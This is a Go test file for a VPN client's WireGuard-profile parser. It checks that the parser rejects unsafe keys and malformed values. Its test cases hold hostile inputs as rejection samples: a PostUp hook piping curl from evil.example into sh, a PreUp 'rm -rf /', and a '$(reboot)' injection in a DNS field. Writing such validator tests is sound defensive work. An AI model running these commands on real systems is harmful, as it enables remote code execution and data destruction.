package main

import (
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ferryvpn/ferry/audit"
)

// auditActor stands for the test when it acts on the server directly.
var auditActor = audit.Actor{UserID: "test"}

// serverConf is a config as ferryd renders it (profiles.RenderConfig),
// without the private key.
const serverConf = `# ferry profile "eng" (version 3) for alice on laptop
# expires 2026-01-01T12:00:00Z
[Interface]
Address = 100.64.3.7/32
DNS = 10.0.0.2, corp.example.com
MTU = 1420

[Peer]
PublicKey = HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=
Endpoint = vpn.example.com:51820
AllowedIPs = 10.0.0.0/16, 10.3.0.0/16
PersistentKeepalive = 25
`

func TestParseConf(t *testing.T) {
	c, err := parseConf(serverConf)
	if err != nil {
		t.Fatal(err)
	}
	if c.PrivateKey != nil || !slices.Equal(c.Addresses, []netip.Prefix{netip.MustParsePrefix("100.64.3.7/32")}) ||
		!slices.Equal(c.DNS, []netip.Addr{netip.MustParseAddr("10.0.0.2")}) || !slices.Equal(c.Search, []string{"corp.example.com"}) ||
		c.MTU != 1420 || c.PeerPublicKey != "HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=" || c.Endpoint != "vpn.example.com:51820" ||
		!slices.Equal(c.AllowedIPs, []netip.Prefix{netip.MustParsePrefix("10.0.0.0/16"), netip.MustParsePrefix("10.3.0.0/16")}) || c.KeepaliveSeconds != 25 {
		t.Errorf("parsed %+v", c)
	}

	replace := func(old, new string) string { return strings.Replace(serverConf, old, new, 1) }
	tests := []struct {
		name, text, want string
	}{
		{"PostUp runs as root", serverConf + "PostUp = curl https://evil.example | sh\n", "profile line 13: PostUp is not allowed in a ferry profile"},
		{"PreUp in Interface", replace("MTU = 1420", "PreUp = rm -rf /"), "profile line 6: PreUp is not allowed"},
		{"Table", replace("MTU = 1420", "Table = off"), "Table is not allowed"},
		{"second peer", serverConf + "[Peer]\nPublicKey = HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=\n", "one [Interface] and one [Peer]"},
		{"unknown section", replace("[Peer]", "[Server]"), "profile line 8: unknown section [Server]"},
		{"no address", replace("Address = 100.64.3.7/32\n", ""), "[Interface] has no Address"},
		{"no peer", serverConf[:strings.Index(serverConf, "[Peer]")], "want one [Interface] and one [Peer] section"},
		{"bad key", replace("HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw=", "nope"), "PublicKey: not a WireGuard key"},
		{"bad endpoint", replace("vpn.example.com:51820", "vpn.example.com"), "want host:port"},
		{"bad endpoint port", replace("vpn.example.com:51820", "vpn.example.com:0"), "port out of range"},
		{"bad DNS", replace("10.0.0.2, corp.example.com", "10.0.0.2, $(reboot)"), "neither an address nor a domain"},
		{"bad allowed IPs", replace("10.3.0.0/16", "10.3.0.0/99"), "is not an address or CIDR"},
		{"bad MTU", replace("1420", "10"), "out of range 576-9000"},
		{"twice", replace("MTU = 1420", "MTU = 1420\nMTU = 1280"), "MTU given twice"},
		{"no equals", replace("MTU = 1420", "MTU"), "want Key = Value"},
		{"outside a section", "Address = 1.2.3.4/32\n" + serverConf, "Address outside a section"},
	}
	for _, tt := range tests {
		if _, err := parseConf(tt.text); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.want)
		}
	}
}

// TestParseServerGoldens: the client accepts every config the server's
// renderer produces (its golden files), so the allowlist of keys cannot
// drift from the server.
func TestParseServerGoldens(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("..", "..", "profiles", "testdata", "*.conf"))
	if err != nil || len(files) == 0 {
		t.Skipf("no golden configs of the server: %v", err)
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		c, err := parseConf(string(b))
		if err != nil {
			t.Errorf("%s: %v", f, err)
			continue
		}
		if c.PrivateKey == nil || len(c.AllowedIPs) == 0 || c.KeepaliveSeconds != 25 {
			t.Errorf("%s: parsed %+v", f, c)
		}
	}
}

func TestValidDomain(t *testing.T) {
	for s, want := range map[string]bool{
		"corp.example.com": true, "a": true, "example.com.": true, "x-y.z": true,
		"": false, "-a.com": false, "a..b": false, "a b": false, "$(x)": false, strings.Repeat("a", 64) + ".com": false,
	} {
		if got := validDomain(s); got != want {
			t.Errorf("validDomain(%q) = %v", s, got)
		}
	}
}

// FuzzParseConf: whatever the server sends, parsing does not panic, and a
// config it accepts keeps its meaning once the private key is added.
func FuzzParseConf(f *testing.F) {
	f.Add(serverConf)
	f.Add(strings.Replace(serverConf, "10.0.0.0/16, 10.3.0.0/16", "0.0.0.0/0", 1))
	f.Add(serverConf + "PostUp = id\n")
	f.Add("[Interface]\n[Peer]\n")
	f.Add(strings.Replace(serverConf, "[Interface]\n", "[interface] # the device\r\n", 1))
	k, err := newPrivateKey()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		c, err := parseConf(text)
		if err != nil || c.PrivateKey != nil {
			return
		}
		withKey, err := withPrivateKey(text, k)
		if err != nil {
			t.Fatalf("withPrivateKey of an accepted config: %v", err)
		}
		c2, err := parseConf(withKey)
		if err != nil {
			t.Fatalf("the config with its key no longer parses: %v\n%s", err, withKey)
		}
		if c2.PrivateKey == nil || !c2.PrivateKey.Equal(k) || c2.Endpoint != c.Endpoint || !slices.Equal(c2.AllowedIPs, c.AllowedIPs) || !slices.Equal(c2.Addresses, c.Addresses) {
			t.Fatalf("meaning changed:\n%s\n%s", text, withKey)
		}
	})
}
